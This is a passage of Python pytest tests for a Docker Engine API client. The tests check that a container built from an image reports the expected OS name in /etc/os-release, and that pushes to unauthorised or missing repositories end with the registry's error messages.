        "POST", "/containers/create?name=told", _json({"Image": made_of, "Entrypoint": ["cat"], "Cmd": ["/etc/os-release"]})
    )
    await docker.ask("POST", "/containers/told/start")
    await docker.ask("POST", "/containers/told/wait")
    assert f'PRETTY_NAME="{name}"\n'.encode() in (await docker.ask("GET", "/containers/told/logs?stdout=1")).body
    await docker.ask("DELETE", "/containers/told")


@pytest.mark.parametrize(("target", "first", "last"), [
    ("alpine/push", "docker.io/library/alpine", "denied: requested access to the resource is denied"),
    ("nobody/none/push?tag=x", "docker.io/nobody/none", "An image does not exist locally with the tag: nobody/none"),
])  # fmt: skip
async def test_a_push_ends_with_the_registry_s_words(docker: Machine, target: str, first: str, last: str) -> None:
    await docker.ask("POST", "/images/create?fromImage=alpine&tag=latest")
    lines = (await docker.ask("POST", f"/images/{target}")).lines
    assert (lines[0]["status"], lines[-1]["error"]) == (f"The push refers to repository [{first}]", last)
